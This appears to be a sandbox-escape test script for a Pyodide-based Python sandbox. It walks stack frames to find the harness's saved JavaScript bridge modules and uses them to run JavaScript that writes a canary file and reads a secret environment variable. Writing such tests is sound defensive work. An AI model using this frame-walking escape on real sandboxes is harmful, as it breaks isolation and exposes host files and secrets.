# Tries: walk sys._getframe().f_back up to the harness and take js/pyodide from the modules it saved.
import asyncio
import json
import sys
import types

CANARY = "__LOOPLAB_CANARY__"
SECRET_NAME = "__LOOPLAB_SECRET_NAME__"

BODY = f"""
  const fs = globalThis.process?.getBuiltinModule?.('fs');
  fs?.writeFileSync({json.dumps(CANARY)}, 'written through a frame walk');
  return String(globalThis.process?.env?.[{json.dumps(SECRET_NAME)}]);
"""
BRIDGES = ("js", "pyodide_js", "pyodide", "_pyodide_core")


def saved_module_tables():
    frame = sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for value in list(scope.values()):
                candidates = [value, *vars(value).values()] if hasattr(value, "__dict__") else [value]
                for candidate in candidates:
                    if isinstance(candidate, dict) and "sys" in candidate and "builtins" in candidate:
                        yield candidate
        frame = frame.f_back


async def main():
    for table in saved_module_tables():
        for name in BRIDGES:
            module = table.get(name)
            if isinstance(module, types.ModuleType):
                try:
                    proxy = getattr(module, "eval", None) or getattr(module, "runPython", None)
                    secret = proxy.constructor(BODY)()
                except Exception as exc:
                    print("REFUSED:", name, type(exc).__name__, exc)
                else:
                    print("ESCAPED: a saved", name, "module ran JavaScript, the secret is", secret)
                return
    print("REFUSED: no saved module table with a JavaScript bridge")


asyncio.run(main())
